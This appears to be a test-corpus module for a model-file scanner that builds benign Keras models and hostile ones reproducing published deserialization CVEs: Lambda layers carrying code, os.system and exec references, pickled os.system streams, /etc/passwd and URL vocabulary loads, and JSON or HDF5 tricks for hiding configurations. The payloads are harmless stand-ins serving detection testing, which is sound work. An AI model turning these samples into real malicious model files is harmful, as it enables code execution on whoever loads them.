"""Keras models: .keras of version 3, legacy .h5, and configurations by themselves."""

from __future__ import annotations

import base64
import json

from tests.corpus import hdf5
from tests.corpus.files import zipped
from tests.corpus.keras import (
    function,
    functional,
    lambda_code,
    layer,
    legacy,
    made,
    python_code,
    saved,
    sequential,
    weights,
)
from tests.corpus.opcodes import name, stream, text, tup

_POLICY = made("keras", "DTypePolicy", {"name": "float32"})
_DENSE = layer(
    "Dense",
    dtype=_POLICY,
    units=2,
    activation="relu",
    kernel_initializer=made("keras.initializers", "GlorotUniform", {"seed": None}),
    kernel_regularizer=made("keras.regularizers", "L2", {"l2": 0.01}),
)
_COMPILED = {
    "optimizer": made("keras.optimizers", "Adam", {"learning_rate": 0.001}),
    "loss": function("keras.losses", "mean_squared_error"),
    "metrics": ["accuracy", made("keras.metrics", "AUC", {"name": "auc"})],
}


def ordinary() -> dict[str, bytes]:
    words = ["", "[UNK]", "hello", "world"]
    slices = [made(None, "__slice__", {"start": None, "stop": 1, "step": None}), {"class_name": "__ellipsis__"}]
    return {
        "sequential": saved(sequential(layer("InputLayer", batch_shape=[None, 8]), _DENSE, compile_config=_COMPILED)),
        "functional with operations": saved(
            functional(
                [
                    layer("InputLayer", batch_shape=[None, 4]),
                    made("keras.src.ops.numpy", "GetItem", {"name": "get_item"}, inbound_nodes=[{"args": slices}]),
                    made("keras.src.ops.nn", "Relu", {"name": "relu"}, registered_name="Relu"),
                    layer("Lambda", function=function("keras.ops", "relu"), arguments={}),
                ]
            )
        ),
        "custom layer": saved(sequential(made("my.layers", "Gate", {"units": 2}, registered_name="my>Gate"))),
        "custom loss": saved(sequential(_DENSE, compile_config={"loss": function("builtins", "focal_loss")})),
        "text": saved(
            sequential(layer("TextVectorization", vocabulary=words), layer("Embedding", input_dim=4, output_dim=2)),
            **{"assets/layers/text_vectorization/vocabulary.txt": b"hello\nworld\n"},
        ),
        "lookup": saved(sequential(layer("StringLookup", vocabulary=words), layer("IntegerLookup", vocabulary=None))),
        "lora and int8": saved(
            sequential(
                layer("Dense", units=2, lora_rank=4, dtype=made("keras", "QuantizedDTypePolicy", {"mode": "int8"}))
            )
        ),
        "preprocessing": saved(sequential(layer("Rescaling", scale=0.1), layer("RandomFlip"), layer("Normalization"))),
        "wrapped": saved(sequential(layer("Bidirectional", layer=layer("LSTM", units=2)))),
        "application": saved(sequential(made("keras.src.applications.convnext", "LayerScale", {"projection_dim": 4}))),
        "keras 2 .keras": saved(
            made("keras.src.engine.functional", "Functional", {"layers": [made("keras.layers", "Dense", {"units": 1})]})
        ),
        "legacy h5": hdf5.keras(
            legacy(("InputLayer", {"batch_input_shape": [None, 2]}), ("Dense", {"units": 2, "activation": "relu"})),
            b'{"loss": "mse", "metrics": [], "optimizer_config": {"class_name": "Adam", "config": {"lr": 0.01}}}',
        ),
        "legacy h5 with TensorFlow operations": hdf5.keras(
            legacy(
                ("TFOpLambda", {"function": "math.multiply"}),
                ("SlicingOpLambda", {"function": "__operators__.getitem"}),
            )
        ),
        "legacy h5 with a custom layer": hdf5.keras(legacy(("Custom>Gate", {"units": 2}), ("attention", {}))),
        "weights": weights(),
        "json": json.dumps(sequential(_DENSE)).encode(),
    }


def hostile() -> dict[str, bytes]:
    return _lambdas() | _functions() | _layers() | _disguised() | _in_hdf5()


def _lambdas() -> dict[str, bytes]:
    code = [python_code(), None, None]
    return {
        # https://nvd.nist.gov/vuln/detail/CVE-2024-3660
        "CVE-2024-3660": saved(sequential(layer("Lambda", function=lambda_code(), arguments={}))),
        "CVE-2024-3660 in keras 2": saved(sequential(layer("Lambda", function=code, function_type="lambda"))),
        # https://nvd.nist.gov/vuln/detail/CVE-2025-9905
        "CVE-2025-9905": hdf5.keras(legacy(("Lambda", {"function": code, "function_type": "lambda"}))),
        "output shape": hdf5.keras(
            legacy(("Lambda", {"function": "relu", "output_shape": code, "output_shape_type": "lambda"}))
        ),
        "lambda anywhere": saved(
            sequential(layer("Dense", activation={"class_name": "__lambda__", "config": {"value": code}}))
        ),
        "named lambda": hdf5.keras(legacy(("Lambda", {"function": "system", "function_type": "function"}))),
    }


def _functions() -> dict[str, bytes]:
    # https://github.com/advisories/GHSA-48g7-3x6r-xfhp
    run = made("builtins", "function", "exec", inbound_nodes=[{"args": ["print()"], "kwargs": {}}])
    # https://github.com/advisories/GHSA-c9rc-mg46-23w3
    fetch = made("keras.utils", "function", "get_file", inbound_nodes=[{"args": ["x", "https://example.org/x"]}])
    # https://github.com/advisories/GHSA-36fq-jgmw-4r9c
    unsafe = layer("Lambda", function=function("keras.config", "enable_unsafe_deserialization"), arguments={})
    load = layer("Lambda", function=function("keras.models", "load_model"), arguments={"safe_mode": False})
    system = function("os", "system")
    return {
        "CVE-2025-1550": saved(functional([run])),
        "CVE-2025-1550 as a class": saved(functional([made("os", "system", {"command": "true"})])),
        "CVE-2025-1550 in the compilation": saved(sequential(compile_config={"loss": system})),
        "CVE-2025-1550 in the building": saved(sequential(build_config={"input_shape": [system]})),
        "CVE-2025-8747": saved(functional([fetch])),
        # https://nvd.nist.gov/vuln/detail/CVE-2025-12060
        "CVE-2025-12060": saved(functional([function("keras.src.utils.file_utils", "get_file")])),
        "CVE-2025-9906": saved(functional([unsafe, load])),
        "another package": saved(functional([function("numpy", "load")])),
        "one name": saved(functional([function("keras", "utils.get_file")])),
        "registered name": saved(functional([made("keras.utils", "Nothing", {}, registered_name="get_file")])),
        "imported by a module of layers": saved(
            functional([function("keras.src.layers.core.lambda_layer", "python_utils")])
        ),
        "copy of a file": saved(functional([function("keras.src.utils.file_utils", "copy")])),
        "type": saved(functional([made("os", "__typespec__", [], spec_name="popen")])),
        "relative module": saved(functional([function(".os", "system")])),
        "keras 2": hdf5.keras(legacy(("deserialize_keras_object", {"identifier": system}))),
    }


def _layers() -> dict[str, bytes]:
    pickled = stream(name("os", "system"), tup(text("true")), b"R")
    return {
        # https://nvd.nist.gov/vuln/detail/CVE-2026-1462
        "CVE-2026-1462": saved(sequential(layer("TFSMLayer", filepath="/tmp/model", call_endpoint="serve"))),
        # https://www.tensorflow.org/hub/api_docs/python/hub/KerasLayer
        "model of a hub": saved(
            sequential(made("tensorflow_hub.keras_layer", "KerasLayer", {"handle": "https://example.org/m"}))
        ),
        "file of a tokenizer": saved(
            sequential(made("keras_nlp.tokenizers", "SentencePieceTokenizer", {"nested": [{"proto": "/etc/passwd"}]}))
        ),
        "sampler with a file": saved(sequential(layer("TFOpLambda", function="nn.fixed_unigram_candidate_sampler"))),
        "method of a method": saved(sequential(layer("TFOpLambda", function="RaggedTensor.a.b"))),
        # https://nvd.nist.gov/vuln/detail/CVE-2025-49655
        "CVE-2025-49655": saved(sequential(layer("TorchModuleWrapper", module=base64.b64encode(pickled).decode()))),
        # https://nvd.nist.gov/vuln/detail/CVE-2025-12058
        "CVE-2025-12058": saved(sequential(layer("StringLookup", vocabulary="/etc/passwd"))),
        "CVE-2025-12058 by URL": saved(sequential(layer("TextVectorization", vocabulary="http://example.org/x"))),
        "jax": saved(sequential(layer("JaxLayer", call_fn=function("my.model", "apply"), init_fn=None))),
        "tensorflow": hdf5.keras(legacy(("TFOpLambda", {"function": "io.read_file"}))),
        "tensorflow v1": hdf5.keras(legacy(("TFOpLambda", {"function": "compat.v1.py_func"}))),
        "class method": hdf5.keras(legacy(("ClassMethod", {"cls_symbol": "io.gfile.GFile", "method_name": "write"}))),
        "operation": hdf5.keras(legacy(("TensorFlowOpLayer", {"node_def": {"name": "x", "op": "WriteFile"}}))),
        "operation as text": hdf5.keras(legacy(("TensorFlowOpLayer", {"node_def": 'name: "Mul" op: "ReadFile"'}))),
        "operation in bytes": hdf5.keras(legacy(("TensorFlowOpLayer", {"node_def": "\n\1x\x12\x06PyFunc"}))),
    }


def _disguised() -> dict[str, bytes]:
    evil = json.dumps(function("os", "system"))
    twice = '{"class_name": "function", "module": "os", "module": "keras.ops", "config": "system", "config": "relu"}'
    escaped = evil.replace("class_name", "cl\\u0061ss_name").replace("config", "c\\u006fnfig")
    return {
        "repeated key": saved(twice.encode()),
        "escaped key": saved(escaped.encode()),
        "wide": saved(evil.encode("utf-16")),
        "not strict": saved(b" " * 300 + evil.encode()[:-1] + b', "x": NaN}'),
        "pickle beside the weights": saved(
            sequential(_DENSE), **{"assets/x": stream(name("os", "system"), tup(text("true")), b"R")}
        ),
        "metadata": zipped({"metadata.json": evil.encode(), "config.json": b"{}"}),
    }


def _in_hdf5() -> dict[str, bytes]:
    config = json.dumps(sequential(layer("Lambda", function=lambda_code()))).encode()
    writer = hdf5.Writer()
    inner = writer.old_object(hdf5.text("model_config", config))
    deep = writer.old(writer.old_object(writer.names({b"model_weights": inner})))
    long_text = hdf5.Writer()
    return {
        "configuration of a group": deep,
        "configuration of any length": long_text.old(
            long_text.old_object(long_text.long_text(b"model_config", config))
        ),
        "configuration behind a user block": _behind(config),
        "configuration before a NUL": hdf5.of_attributes(hdf5.text("model_config", config + b"\0}")),
        "configuration of another name": hdf5.of_attributes(hdf5.text("notes", config)),
        # H5Dict of Keras 2.2.3 to 2.3.1 unpickles such attributes
        "pickled dictionary": hdf5.of_attributes(
            hdf5.text("_x_pickled", stream(name("os", "system"), tup(text("true")), b"R"))
        ),
    }


def _behind(config: bytes) -> bytes:
    writer = hdf5.Writer()
    return writer.old(writer.old_object(hdf5.text("model_config", config)), version=1, block=1024)
